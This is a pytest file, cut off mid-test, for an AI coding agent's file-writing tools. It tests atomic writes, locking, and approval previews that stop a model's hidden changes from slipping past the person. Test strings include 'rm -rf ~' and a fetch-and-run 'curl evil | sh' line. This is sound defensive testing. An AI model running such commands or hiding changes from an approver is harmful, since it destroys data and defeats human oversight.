"""write_file and edit_file never lose the person's data: a file is replaced whole or not at all
(kill -9, SIGTERM, Ctrl-C, a full disk), two runs never tear it, a change made while the person was
asked is never overwritten, and its mode, owner, links and line endings are kept; the approval
preview stays small on big files."""

import difflib
import os
import resource
import shutil
import signal
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest
from fake_model import answer, calls
from helpers import (
    CHILD,
    ROOT,
    default_signals,
    edit,
    folder_locked,
    in_child,
    limited,
    posix_only,
    results,
    run_script,
    traced,
    write,
)

import harness
import tools
from plainagent.approval import previews
from plainagent.approval import prompt as approval
from plainagent.core import screen
from plainagent.workspace import edits, undo, writes

linux_only = pytest.mark.skipif(
    not Path("/proc/self/fd").is_dir() or not hasattr(os, "O_TMPFILE"),
    reason="unnamed files and /proc",
)
LINE = "a line of the big file, long enough to make it take a while\n"
LINES = 400_000  # about 24 MB: a write takes long enough to be caught in the middle
UNNAMED, NAMED = "unnamed", "named"


@pytest.fixture(params=[UNNAMED, NAMED])
def temporary(request, monkeypatch) -> str:
    """Each test twice: with Linux's unnamed temporary file, and with the named
    one other systems get."""
    if request.param == UNNAMED and not hasattr(os, "O_TMPFILE"):
        pytest.skip("no unnamed files here")
    if request.param == NAMED:
        monkeypatch.setattr(writes, "UNNAMED_FILES", False)  # what macOS and Windows have
    return request.param


def big(marker: int) -> str:
    return f"marker {marker}\n" + LINE * LINES


def asking(asked: list, config, decision: bool = True):
    """An approver that records what the person would be shown (in the run's
    settings, config), then decides."""

    def approve(name: str, arguments: dict) -> bool:
        asked.append(previews.describe(name, arguments, screen.shown, config))
        return decision

    return approve


# 1. A signal or kill in the middle of a write leaves the whole old or the whole new file, and no
# temporary file.

# A child that writes (or edits) big.txt from marker 0 to 1 and back, for ever. SIGTERM
# raises, as the CLI makes it (importing cli would import openai: half a second a test;
# the CLI itself is tested below).
LOOP = f"""
import signal, sys
sys.path.insert(0, {str(ROOT)!r})
import tools
from plainagent.core import settings
from plainagent.workspace import writes
config = settings.resolve(require_key=False)  # this child is one run: its tools get these settings
def big(marker):
    return f"marker {{marker}}\\n" + {LINE!r} * {LINES}
class Terminated(KeyboardInterrupt):
    code = 143
def stop(signum, frame):
    raise Terminated()
signal.signal(signal.SIGTERM, stop)
tool, temporary = sys.argv[1], sys.argv[2]
writes.UNNAMED_FILES = temporary == {UNNAMED!r}
try:
    while True:
        for marker in (1, 0):
            if tool == "write_file":
                tools.write_file("big.txt", big(marker), settings=config)
            else:
                old, new = f"marker {{1 - marker}}\\n", f"marker {{marker}}\\n"
                tools.edit_file("big.txt", old, new, settings=config)
except KeyboardInterrupt as stop:
    sys.exit(getattr(stop, "code", 130))
"""


def polled(probe, process: subprocess.Popen, timeout: float = 20) -> str:
    """probe()'s first value that is not None, looked for every 5 ms while the process runs."""
    deadline = time.monotonic() + timeout
    while (value := probe()) is None:
        assert process.poll() is None and time.monotonic() < deadline, "never saw it happen"
        time.sleep(0.005)
    return value


def new_file_being_written(pid: int, folder: Path) -> str | None:
    """Where the process is writing a new file in folder, once it has written some of it:
    Linux shows an unnamed file as 'folder/#inode (deleted)'; a named temporary file by
    its name. None before that."""
    fds = Path(f"/proc/{pid}/fd")
    for fd in os.listdir(fds):
        try:
            where = os.readlink(fds / fd)
            if Path(where).parent == folder and not where.startswith(str(folder / "big.txt")):
                if os.stat(fds / fd).st_size > 0:
                    return where
        except OSError:  # closed meanwhile
            continue
    return None


@posix_only
@linux_only
@pytest.mark.parametrize("tool", ["write_file", "edit_file"])
@pytest.mark.parametrize(
    "name, temporary, code",
    [
        ("SIGKILL", UNNAMED, -9),
        ("SIGTERM", UNNAMED, 143),
        ("SIGINT", UNNAMED, 130),
        ("SIGTERM", NAMED, 143),
        ("SIGINT", NAMED, 130),
    ],
)
def test_a_signal_in_the_middle_of_a_write_leaves_the_whole_old_or_new_file_and_no_temporary(
    tmp_path, tool, name, temporary, code
):
    folder = tmp_path.resolve()
    (folder / "big.txt").write_text(big(0))
    child = subprocess.Popen(
        [sys.executable, "-c", LOOP, tool, temporary],
        cwd=folder,
        preexec_fn=default_signals,
        env={**os.environ, "AGENT_WORKSPACE": str(folder)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    try:
        where = polled(lambda: new_file_being_written(child.pid, folder), child)
        child.send_signal(getattr(signal, name))
        _, stderr = child.communicate(timeout=30)
    finally:
        if child.poll() is None:
            child.kill()
            child.wait()

    assert child.returncode == code, stderr
    assert where.endswith(" (deleted)") if temporary == UNNAMED else where.endswith(".agent-write")
    # whole: never a prefix, never empty
    assert (folder / "big.txt").read_text() in (
        big(0),
        big(1),
    )
    assert os.listdir(folder) == ["big.txt"]


@posix_only
@linux_only
def test_sigterm_while_the_agent_edits_a_big_file_stops_the_run_and_leaves_it_whole(
    model, tmp_path, start_cli
):
    folder = tmp_path.resolve()
    (folder / "big.txt").write_text(big(0))
    model.queue(calls(edit("big.txt", "marker 0\n", "marker 1\n")))
    process = start_cli(folder, "edit it", "--yes", "--no-transcript")

    polled(lambda: new_file_being_written(process.pid, folder), process)
    # through the CLI's own handler, which the child above stands in for
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=30)

    assert (
        process.returncode == 143
        and "terminated" in stderr.splitlines()
        and "Traceback" not in stderr
    ), stderr
    assert (folder / "big.txt").read_text() in (big(0), big(1))
    assert os.listdir(folder) == ["big.txt"]


@pytest.mark.skipif(
    not Path("/proc/self/fd").is_dir() or shutil.which("strace") is None,
    reason="needs Linux and strace, to kill a write between naming its new file and the rename",
)
def test_a_new_file_named_by_a_write_killed_before_its_rename_is_removed_by_a_later_write(
    model, tmp_path, in_a_run
):
    # kill -9 right after the new file got its name (.<hex>.agent-write) and before the rename over
    # the target left that hidden copy in the workspace for good (git add -A would take it), though
    # the docs said nothing is left.
    folder = tmp_path.resolve()
    (folder / "notes.txt").write_text("old\n")
    model.queue(
        calls(write("notes.txt", "new\n")), calls(write("other.txt", "more\n")), answer("done")
    )
    killed = subprocess.run(
        [
            "strace",
            "-f",
            "-qq",
            "-o",
            os.devnull,
            "-e",
            "trace=renameat",
            "-e",
            "inject=renameat:signal=SIGKILL",
            sys.executable,
            str(ROOT / "harness.py"),
            "--yes",
            "--no-transcript",
            "write",
        ],
        cwd=folder,
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        timeout=60,
        env={**os.environ, "PYTHONDONTWRITEBYTECODE": "1"},
        **CHILD,
    )
    [left] = [p for p in folder.iterdir() if p.name.endswith(".agent-write")]
    assert (
        killed.returncode != 0
        and (folder / "notes.txt").read_text() == "old\n"
        and left.read_text() == "new\n"
    )
    # What is not a write's leftover stays: a name of another shape, a file with
    # another name, one written lately.
    (folder / ".0123456789abcde.agent-write").write_text("15 hex digits\n")
    (folder / ".0123456789abcdef.agent-write").write_text("linked\n")
    os.link(folder / ".0123456789abcdef.agent-write", folder / "linked.txt")
    (folder / ".fedcba9876543210.agent-write").write_text("written just now\n")
    an_hour_ago = time.time() - 3600
    for path in folder.iterdir():
        if path.name != ".fedcba9876543210.agent-write":
            os.utime(path, (an_hour_ago, an_hour_ago))

    harness.run("write more", approve=asking([], in_a_run))

    assert (folder / "other.txt").read_text() == "more\n" and not left.exists()
    assert sorted(p.name for p in folder.iterdir()) == [
        ".0123456789abcde.agent-write",
        ".0123456789abcdef.agent-write",
        ".fedcba9876543210.agent-write",
        "linked.txt",
        "notes.txt",
        "other.txt",
    ]


@posix_only
def test_on_a_full_disk_writes_and_edits_leave_the_old_file_whole_create_nothing_and_say_so(
    model, tmp_path
):
    old = "first line\n" + "old text\n" * 200_000  # 1.8 MB, more than the child may write
    (tmp_path / "old.txt").write_text(old)
    model.queue(
        calls(
            ("write_file", {"path": "old.txt", "content": "new text\n" * 200_000}),
            (
                "edit_file",
                {"path": "old.txt", "old_text": "first line\n", "new_text": "the first line\n"},
            ),
            ("write_file", {"path": "new.txt", "content": "new text\n" * 200_000}),
            ("write_file", {"path": "sub/new.txt", "content": "new text\n" * 200_000}),
        ),
        answer("the disk is full"),
    )

    result = run_script(
        "harness.py",
        "write",
        "--yes",
        "--no-transcript",
        cwd=tmp_path,
        **limited(resource.RLIMIT_FSIZE, 1_000_000),
    )

    assert (result.returncode, result.stdout) == (0, "the disk is full\n"), result.stderr
    assert [m["content"] for m in model.messages(1)[-4:]] == [
        "error: OSError: cannot write old.txt: File too large; it was left as it was",
        "error: OSError: cannot write old.txt: File too large; it was left as it was",
        "error: OSError: cannot write new.txt: File too large; it was not created",
        "error: OSError: cannot write sub/new.txt: File too large; it was not created",
    ]
    assert (tmp_path / "old.txt").read_text() == old
    assert sorted(str(p.relative_to(tmp_path)) for p in tmp_path.rglob("*")) == ["old.txt", "sub"]


# 2. Runs editing one file (in threads of one process, or in two processes) never tear it and never
# lose an edit.

RUNS_AT_ONCE = 8
FILLER = "filler line that keeps the file big enough to take some time to read and write\n" * 2_000


def shared_text(done: set[int]) -> str:
    return "".join(
        f"line {k}: {'new' if k in done else 'old'}\n" + FILLER for k in range(RUNS_AT_ONCE)
    )


def test_eight_runs_editing_different_lines_of_one_file_keep_every_edit_and_never_tear_it(
    model, tmp_path
):
    shared = tmp_path / "shared.txt"
    shared.write_text(shared_text(set()))
    original = shared.read_bytes()

    def reply(body: dict) -> dict:
        messages, task = body["messages"], body["messages"][1]["content"]
        if len(messages) == 2:
            return calls(edit("shared.txt", f"line {task}: old\n", f"line {task}: new\n"))
        return answer(messages[-1]["content"])

    model.router = reply
    answers, torn, running = {}, [], True

    def read_all_the_time() -> None:
        while running:
            seen = shared.read_bytes()
            if seen.replace(b": new\n", b": old\n") != original:
                torn.append(len(seen))

    reader = threading.Thread(target=read_all_the_time)
    reader.start()
    threads = [
        threading.Thread(
            target=lambda k=k: answers.update(
                {k: harness.run(str(k), approve=approval.approve_all)}
            )
        )
        for k in range(RUNS_AT_ONCE)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    running = False
    reader.join()

    assert all(
        answers[k].startswith("edited shared.txt: replaced 1 occurrence")
        for k in range(RUNS_AT_ONCE)
    ), answers
    assert shared.read_text() == shared_text(set(range(RUNS_AT_ONCE)))
    assert torn == []
    assert os.listdir(tmp_path) == ["shared.txt"]


# Two processes (two `python harness.py`, two scripts calling run()) lock the file's folder as well:
# each reads the file again only once the other's edit is in it. A child that makes `count` edits of
# its own lines of shared.txt, once the test says go (so that the two overlap).
EDITOR = f"""
import sys
sys.path.insert(0, {str(ROOT)!r})
import tools
from plainagent.core import settings
from plainagent.workspace import writes
config = settings.resolve(require_key=False)
# this is about lost edits, not about how long a busy machine makes the other one wait
writes.FOLDER_WAIT = 600
who, count = sys.argv[1], int(sys.argv[2])
print("ready", flush=True)
sys.stdin.readline()
for k in range(count):
    old, new = f"{{who}} {{k}}: old\\n", f"{{who}} {{k}}: new\\n"
    tools.edit_file("shared.txt", old, new, settings=config)
"""
EDITS_EACH = 150
SOME_FILLER = "filler that makes each edit read and write a few kilobytes more\n" * 20


def two_editors_text(done: set[str]) -> str:
    return "".join(
        f"{line}: {'new' if line in done else 'old'}\n" + SOME_FILLER
        for k in range(EDITS_EACH)
        for line in (f"a {k}", f"b {k}")
    )


@posix_only
def test_two_processes_editing_different_lines_of_one_file_keep_every_edit(tmp_path):
    folder = tmp_path.resolve()
    (folder / "shared.txt").write_text(two_editors_text(set()))
    editors = [
        subprocess.Popen(
            [sys.executable, "-c", EDITOR, who, str(EDITS_EACH)],
            cwd=folder,
            text=True,
            env={**os.environ, "AGENT_WORKSPACE": str(folder)},
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            **CHILD,
        )
        for who in "ab"
    ]
    try:
        for editor in editors:
            assert editor.stdout.readline() == "ready\n", editor.communicate()[1]
        for editor in editors:  # go
            editor.stdin.write("\n")
            editor.stdin.flush()
        results = [editor.communicate(timeout=300) for editor in editors]
    finally:
        for editor in editors:
            if editor.poll() is None:
                editor.kill()
                editor.wait()

    assert [editor.returncode for editor in editors] == [0, 0], results
    done = {f"{who} {k}" for who in "ab" for k in range(EDITS_EACH)}
    # before: some edits lost (read the old)
    assert (folder / "shared.txt").read_text() == two_editors_text(done)
    assert os.listdir(folder) == ["shared.txt"]


# Another program holding the folder's lock (a command still running in the background, say) is
# waited for a bounded time only; then the write is refused, the file left as it was.
@posix_only  # Windows has no flock: there, one process's lock only
@pytest.mark.parametrize(
    "call", [calls(write("notes.txt", "new\n")), calls(edit("notes.txt", "my notes", "new"))]
)
def test_a_folder_locked_by_another_program_is_waited_for_a_while_then_the_write_is_refused(
    model, tmp_path, monkeypatch, call
):
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes\n")
    monkeypatch.setattr(writes, "FOLDER_WAIT", 0.2)
    with folder_locked(tmp_path):
        model.queue(call, answer("it is locked"))
        harness.run("change the notes", approve=approval.approve_all)

    assert model.messages(1)[-1]["content"] == (
        "error: OSError: cannot write notes.txt: another program has held a lock on its folder for "
        "0.2 s (another agent run writing there, or a command holding it); nothing was written; "
        "try again when it is done"
    )
    assert notes.read_text() == "my notes\n"
    assert os.listdir(tmp_path) == ["notes.txt"]

    model.queue(call, answer("changed"))  # once the other program is done
    harness.run("change the notes", approve=approval.approve_all)
    assert notes.read_text() == "new\n"


@linux_only
def test_the_folder_lock_never_reaches_a_command(tmp_path, in_a_run):
    (tmp_path / "notes.txt").write_text("my notes\n")
    with writes.file_lock("notes.txt", tmp_path.resolve() / "notes.txt"):
        fds = subprocess.run(
            ["ls", "-l", "/proc/self/fd/"], close_fds=False, capture_output=True, text=True
        ).stdout
    assert str(tmp_path.resolve()) not in fds


@posix_only
def test_a_write_into_a_folder_swapped_after_it_was_locked_is_refused(tmp_path, in_a_run):
    # What file_lock holds travels to replace_file as a value: the folder's stat it locked.
    folder = tmp_path / "notes"
    folder.mkdir()
    target = folder.resolve() / "a.txt"
    with writes.file_lock("notes/a.txt", target) as locked:
        folder.rename(tmp_path / "old-notes")
        folder.mkdir()
        with pytest.raises(OSError, match="its folder was moved or replaced"):
            writes.replace_file("notes/a.txt", target, [b"new\n"], in_a_run, locked=locked.stat)
    assert list(folder.iterdir()) == [] and list((tmp_path / "old-notes").iterdir()) == []


# 3. What the person approved is what gets written.


def appended(notes: Path) -> None:
    with open(notes, "a") as file:
        file.write("a line I added meanwhile\n")


def changed_keeping_size_and_time(notes: Path) -> None:
    # What cp -p, rsync -t or touch -r leave: same size, the old mtime; only the change time
    # shows it. The fingerprint had no change time, and the person's flag was overwritten
    # with what they had not approved.
    info = notes.stat()
    notes.write_text("flag = 1\n")
    os.utime(notes, ns=(info.st_atime_ns, info.st_mtime_ns))


@pytest.mark.parametrize(
    "change, after",
    [
        (appended, "flag = 0\na line I added meanwhile\n"),
        (changed_keeping_size_and_time, "flag = 1\n"),
    ],
)
def test_a_file_changed_while_the_person_was_asked_is_not_overwritten(
    model, tmp_path, change, after, in_a_run
):
    notes = tmp_path / "notes.txt"
    notes.write_text("flag = 0\n")

    def approve_after_a_change(name: str, arguments: dict) -> bool:
        previews.describe(name, arguments, screen.shown, in_a_run)
        change(notes)
        return True

    model.queue(calls(write("notes.txt", "the model's notes\n")), answer("it changed"))

    harness.run("rewrite the notes", approve=approve_after_a_change)

    assert (
        model.messages(1)[-1]["content"]
        == "error: notes.txt changed since you were asked; read it again"
    )
    assert notes.read_text() == after


def test_a_file_created_while_the_person_was_asked_is_not_overwritten(model, tmp_path):
    def approve_after_creating_it(name: str, arguments: dict) -> bool:
        (tmp_path / "notes.txt").write_text("mine\n")
        return True

    model.queue(calls(write("notes.txt", "the model's notes\n")), answer("it changed"))

    harness.run("write notes", approve=approve_after_creating_it)

    assert (
        model.messages(1)[-1]["content"]
        == "error: notes.txt changed since you were asked; read it again"
    )
    assert (tmp_path / "notes.txt").read_text() == "mine\n"


def test_an_edit_made_while_the_person_was_asked_is_kept_by_the_edit(model, tmp_path):
    (tmp_path / "a.txt").write_text("one\ntwo\n")

    def approve_after_an_edit(name: str, arguments: dict) -> bool:
        with open(tmp_path / "a.txt", "a") as file:
            file.write("three\n")
        return True

    model.queue(calls(edit("a.txt", "one\n", "ONE\n")), answer("edited"))

    harness.run("shout", approve=approve_after_an_edit)

    # planned again on the file as it is now
    assert (tmp_path / "a.txt").read_text() == "ONE\ntwo\nthree\n"


def test_a_file_another_process_creates_in_the_folder_this_write_is_making_is_not_overwritten(
    model, tmp_path, monkeypatch, in_a_run
):
    # A file in folders still to be made locks the nearest folder that exists (here the
    # workspace); another process that comes once the folder is made locks the new folder, not
    # that one, and may write the file meanwhile.
    remember = undo.remember

    def another_process_writes_it_as_the_folder_is_made(target: Path, chunks, config):
        settle = remember(target, chunks, config)
        (tmp_path / "sub").mkdir()
        (tmp_path / "sub" / "notes.txt").write_text("theirs\n")
        return settle

    monkeypatch.setattr(undo, "remember", another_process_writes_it_as_the_folder_is_made)
    model.queue(
        calls(write("sub/notes.txt", "the model's notes\n")), answer("it was made meanwhile")
    )

    harness.run("write notes", approve=asking([], in_a_run))

    assert (
        model.messages(1)[-1]["content"]
        == "error: sub/notes.txt changed since you were asked; read it again"
    )
    assert (tmp_path / "sub" / "notes.txt").read_text() == "theirs\n"


@posix_only
@pytest.mark.parametrize(
    "call", [calls(write("notes.txt", "new\n")), calls(edit("notes.txt", "my notes", "new"))]
)
def test_a_read_only_file_is_refused_before_anyone_is_asked_even_as_root(model, tmp_path, call):
    notes = tmp_path / "notes.txt"
    notes.write_text("my notes\n")
    notes.chmod(0o444)
    asked = []
    model.queue(call, answer("it is read-only"))

    harness.run("change the notes", approve=lambda name, arguments: asked.append(name) or True)

    assert asked == []
    assert model.messages(1)[-1]["content"] == (
        "error: notes.txt is read-only (mode 0444), so it was not changed; if it should change, "
        "ask the user to make it writable (chmod u+w notes.txt); else write another file"
    )
    assert notes.read_text() == "my notes\n" and (notes.stat().st_mode & 0o777) == 0o444


# 4. The file stays the person's: mode, owner, links, line endings.


@posix_only
@pytest.mark.parametrize(
    "mode", [0o755, 0o4755, 0o2755], ids=["plain", "set-user-id", "set-group-id"]
)
@pytest.mark.parametrize(
    "call", [calls(write("run.sh", "echo two\n")), calls(edit("run.sh", "one", "two"))]
)
def test_the_mode_is_kept(model, tmp_path, temporary, call, mode):
    # Giving the copy the file's owner clears its set-id bits, so its mode is set after, not before.
    script = tmp_path / "run.sh"
    script.write_text("echo one\n")
    script.chmod(mode)
    assert script.stat().st_mode & 0o7777 == mode
    model.queue(call, answer("done"))

    harness.run("change it", approve=approval.approve_all)

    assert script.read_text() == "echo two\n"
    assert script.stat().st_mode & 0o7777 == mode
    assert os.listdir(tmp_path) == ["run.sh"]


@posix_only
@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="only root may give a file away"
)
@pytest.mark.parametrize(
    "call", [calls(write("theirs.txt", "two\n")), calls(edit("theirs.txt", "one", "two"))]
)
def test_as_root_the_owner_and_group_are_kept(model, tmp_path, temporary, call):
    theirs = tmp_path / "theirs.txt"
    theirs.write_text("one\n")
    os.chown(theirs, 4321, 5432)
    model.queue(call, answer("done"))

    harness.run("change it", approve=approval.approve_all)

    assert theirs.read_text() == "two\n"
    assert (theirs.stat().st_uid, theirs.stat().st_gid) == (4321, 5432)


AS_NOBODY = f"""
import os, sys
sys.path.insert(0, {str(ROOT)!r})
import tools
from plainagent.core import settings
config = settings.resolve(require_key=False)  # this child is one run: its tools get these settings
os.setgid(65534)
os.setuid(65534)
for call in (lambda: tools.write_file("theirs.txt", "mine now", settings=config),
             lambda: tools.edit_file("theirs.txt", "one", "two", settings=config)):
    try:
        print(call())
    except PermissionError as error:
        print(error)
"""


@posix_only
@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() != 0, reason="needs root to become another user"
)
def test_a_file_this_user_may_not_write_is_not_replaced_even_where_the_folder_would_allow_it():
    folder = Path(tempfile.mkdtemp())  # in /tmp, which every user may pass through
    try:
        # anyone may add and rename files here, which could replace the file by rename
        folder.chmod(0o777)
        (folder / "theirs.txt").write_text("one\n")
        (folder / "theirs.txt").chmod(0o644)

        result = subprocess.run(
            [sys.executable, "-c", AS_NOBODY],
            cwd=folder,
            capture_output=True,
            text=True,
            timeout=30,
            env={**os.environ, "AGENT_WORKSPACE": str(folder)},
        )

        assert (
            result.stdout == "theirs.txt may not be written by this user; it was not changed\n" * 2
        ), result.stderr
        assert (folder / "theirs.txt").read_text() == "one\n" and (
            folder / "theirs.txt"
        ).stat().st_uid == 0
        assert os.listdir(folder) == ["theirs.txt"]
    finally:
        shutil.rmtree(folder)


@posix_only
def test_a_new_file_gets_the_usual_mode(tmp_path, monkeypatch, temporary, in_a_run):
    monkeypatch.chdir(tmp_path)
    umask = os.umask(0o027)
    try:
        tools.write_file("deep/new.txt", "hi\n", settings=in_a_run)
    finally:
        os.umask(umask)

    assert (tmp_path / "deep" / "new.txt").stat().st_mode & 0o777 == 0o640
    assert os.listdir(tmp_path / "deep") == ["new.txt"]


@posix_only
@pytest.mark.parametrize(
    "call", [calls(write("link.txt", "two\n")), calls(edit("link.txt", "one", "two"))]
)
def test_a_link_inside_the_workspace_is_written_through(model, tmp_path, call):
    (tmp_path / "real.txt").write_text("one\n")
    (tmp_path / "link.txt").symlink_to("real.txt")
    model.queue(call, answer("done"))

    harness.run("change it", approve=approval.approve_all)

    assert os.readlink(tmp_path / "link.txt") == "real.txt"  # still the link
    assert (tmp_path / "real.txt").read_text() == "two\n"


@posix_only
@pytest.mark.parametrize(
    "call, shown",
    [
        (
            calls(write("a.txt", "two\n")),
            "write_file wants to overwrite a.txt (exists, 4 -> 4 bytes; it has 1 other hard link, "
            "which keeps the old text)\n  --- a.txt (now)\n  +++ a.txt (new)\n  @@ -1 +1 @@\n"
            "  -one\n  +two",
        ),
        (
            calls(edit("a.txt", "one", "two")),
            "edit_file wants to edit a.txt (4 -> 4 bytes; it has 1 other hard link, which keeps "
            "the old text)\n  --- a.txt (now)\n  +++ a.txt (new)\n  @@ -1 +1 @@\n  -one\n  +two",
        ),
    ],
)
def test_a_file_with_other_hard_links_gets_new_text_under_this_name_only_and_the_prompt_says_so(
    model, tmp_path, call, shown, in_a_run
):
    (tmp_path / "a.txt").write_text("one\n")
    os.link(tmp_path / "a.txt", tmp_path / "b.txt")
    asked = []
    model.queue(call, answer("done"))

    harness.run("change it", approve=asking(asked, in_a_run))

    assert asked == [shown]
    assert (tmp_path / "a.txt").read_text() == "two\n"
    assert (tmp_path / "b.txt").read_text() == "one\n"


@pytest.mark.parametrize(
    "old_text, new_text, expected",
    [
        (
            "lf line\n",
            "LF LINE\nand one more\n",
            b"one\r\ntwo\r\nLF LINE\nand one more\nthree\r\nfour\r\n",
        ),
        # converted to match: \r\n
        (
            "one\ntwo\n",
            "1\n2\n",
            b"1\r\n2\r\nlf line\nthree\r\nfour\r\n",
        ),
        # in a \r\n line
        (
            "three",
            "3\nand more",
            b"one\r\ntwo\r\nlf line\n3\r\nand more\r\nfour\r\n",
        ),
        ("lf", "LF\nL", b"one\r\ntwo\r\nLF\nL line\nthree\r\nfour\r\n"),  # in a \n line
    ],
)
def test_in_a_crlf_file_new_text_gets_the_line_endings_of_the_text_it_replaces(
    tmp_path, monkeypatch, old_text, new_text, expected, in_a_run
):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "win.txt").write_bytes(b"one\r\ntwo\r\nlf line\nthree\r\nfour\r\n")

    tools.edit_file("win.txt", old_text, new_text, settings=in_a_run)

    assert (tmp_path / "win.txt").read_bytes() == expected


# 5. The prompt shows what changes, around the change, whatever the size of the file.


def test_the_edit_prompt_shows_the_hunk_around_the_change_numbered_as_in_the_whole_file(
    model, tmp_path, in_a_run
):
    lines = [f"line {n}\n" for n in range(1, 10_001)]
    (tmp_path / "big.txt").write_text("".join(lines))
    asked = []
    model.queue(calls(edit("big.txt", "line 5000\nline 5001\n", "X\n")), answer("not now"))

    harness.run("edit", approve=asking(asked, in_a_run, False))

    after = lines[:4999] + ["X\n"] + lines[5001:]
    whole = difflib.unified_diff(
        [line[:-1] for line in lines],
        [line[:-1] for line in after],
        "big.txt (now)",
        "big.txt (new)",
        lineterm="",
    )
    assert asked == [
        "edit_file wants to edit big.txt (98894 -> 98876 bytes)\n"
        + "\n".join(f"  {line}" for line in whole)
    ]
    assert "@@ -4997,8 +4997,7 @@" in asked[0]


def test_the_edit_prompt_on_a_one_line_file_shows_a_short_piece_of_the_line(
    tmp_path, monkeypatch, in_a_run
):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "min.js").write_text("a" * 3_000_000 + "CHANGE ME" + "b" * 3_000_000)

    shown = previews.describe(
        "edit_file",
        {"path": "min.js", "old_text": "CHANGE ME", "new_text": "CHANGED"},
        screen.shown,
        in_a_run,
    )

    head, *diff = shown.split("\n")
    assert head == "edit_file wants to edit min.js (6000009 -> 6000007 bytes)"
    assert diff[2] == "  @@ -1 +1 @@"
    cut = 1 + edits.PREVIEW_BYTES + len("CHANGE ME") + edits.PREVIEW_BYTES - previews.PREVIEW_WIDTH
    head, tail = (
        "a" * (previews.PREVIEW_WIDTH - previews.PREVIEW_TAIL - 1),
        "b" * previews.PREVIEW_TAIL,
    )
    assert diff[3] == f"  -{head} [... {cut:,} characters left out ...] {tail}"
    assert len(shown) < 1000


def test_the_write_prompt_for_a_big_file_shows_the_sizes_and_the_new_texts_start(
    tmp_path, monkeypatch, in_a_run
):
    monkeypatch.chdir(tmp_path)
    (tmp_path / "big.log").write_text("old\n" * 500_000)
    content = "".join(f"new {n}\n" for n in range(1, 31))

    shown = previews.describe(
        "write_file", {"path": "big.log", "content": content}, screen.shown, in_a_run
    )

    assert shown == (
        "write_file wants to overwrite big.log (exists, 2000000 -> 201 bytes)\n"
        "  too big to compare; the new text starts:\n"
        + "".join(f"  +new {n}\n" for n in range(1, 21))
        + "  ... and 10 more lines"
    )


def test_the_write_prompt_for_a_new_file_shows_its_first_lines(tmp_path, monkeypatch, in_a_run):
    monkeypatch.chdir(tmp_path)

    shown = previews.describe(
        "write_file", {"path": "new.txt", "content": "x\n" * 21 + "last"}, screen.shown, in_a_run
    )

    assert shown == (
        "write_file wants to create new.txt (new file, 46 bytes)\n"
        + "  +x\n" * 20
        + "  ... and 2 more lines"
    )


def test_the_write_prompt_says_how_much_of_a_long_diff_it_leaves_out(
    tmp_path, monkeypatch, in_a_run
):
    # A third hunk past the 20 lines shown was cut with no word: the person
    # approved a change they never saw.
    monkeypatch.chdir(tmp_path)
    old = "".join(f"line {n}\n" for n in range(60))
    (tmp_path / "f.txt").write_text(old)
    content = (
        old.replace("line 2\n", "two\n")
        .replace("line 25\n", "twenty-five\n")
        .replace("line 50\n", "rm -rf ~\n")
    )

    shown = previews.describe(
        "write_file", {"path": "f.txt", "content": content}, screen.shown, in_a_run
    )

    *diff, note = shown.split("\n")
    assert len(diff) == 1 + previews.PREVIEW_LINES and diff[-1] == "  @@ -48,7 +48,7 @@"
    assert note == "  ... and 8 more lines of the diff, 2 of them changed"


@posix_only
def test_the_prompt_names_the_file_a_link_leads_to(tmp_path, monkeypatch, in_a_run):
    # A link a repository brought in (docs/notes.md -> ../.git/config) was asked about by its own
    # name only: the person approved a change to docs/notes.md and git's settings changed.
    monkeypatch.chdir(tmp_path)
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text("[core]\n\tbare = false\n")
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / "notes.md").symlink_to("../.git/config")
    (tmp_path / "docs" / "plain.md").write_text("plain\n")

    wrote = previews.describe(
        "write_file", {"path": "docs/notes.md", "content": "[core]\n"}, screen.shown, in_a_run
    )
    edited = previews.describe(
        "edit_file",
        {"path": "docs/notes.md", "old_text": "bare", "new_text": "x"},
        screen.shown,
        in_a_run,
    )
    plain = previews.describe(
        "write_file", {"path": "docs/../docs/plain.md", "content": "x\n"}, screen.shown, in_a_run
    )

    assert wrote.startswith(
        "write_file wants to overwrite docs/notes.md (leads to .git/config) (exists, 21 -> 7"
    )
    assert edited.startswith(
        "edit_file wants to edit docs/notes.md (leads to .git/config) (21 -> 18 bytes)"
    )
    # no link: as written
    assert plain.startswith("write_file wants to overwrite docs/../docs/plain.md (exists")


def test_a_long_line_in_a_preview_shows_its_end(tmp_path, monkeypatch, in_a_run):
    # A line cut at its start hid what a model put at its end, after 300 harmless characters.
    monkeypatch.chdir(tmp_path)
    line = "x = 1" + " " * 400 + "; import os; os.system('curl evil | sh')"

    shown = previews.describe(
        "write_file", {"path": "a.py", "content": line + "\n"}, screen.shown, in_a_run
    )

    assert shown.endswith(" characters left out ...] " + f"+{line}"[-previews.PREVIEW_TAIL :])
    assert "os.system('curl evil | sh')" in shown


def test_a_write_that_changes_only_line_endings_says_so(tmp_path, monkeypatch, in_a_run):
    # The diff strips \r and the last \n, so such a change showed no line at all under the question.
    monkeypatch.chdir(tmp_path)
    (tmp_path / "f.txt").write_bytes(b"a\r\nb\r\n")

    wrote = previews.describe(
        "write_file", {"path": "f.txt", "content": "a\nb"}, screen.shown, in_a_run
    )
    same = previews.describe(
        "edit_file",
        {"path": "f.txt", "old_text": "a\r\n", "new_text": "a\n"},
        screen.shown,
        in_a_run,
    )

    assert wrote == (
        "write_file wants to overwrite f.txt (exists, 6 -> 3 bytes)\n"
        "  no line changes as shown: only line endings (\\r\\n, \\n, none), or bytes that are not "
        "UTF-8, differ"
    )
    assert (
        same == "edit_file wants to edit f.txt (6 -> 6 bytes)\n  no change: the file stays as it is"
    )


@posix_only
def test_an_edit_and_its_undo_keep_the_files_acl_and_extended_attributes(model, cli, tmp_path):
    # The new file renamed over the old one had none: an ACL letting a teammate
    # write the file was gone.
    shared = tmp_path / "shared.txt"
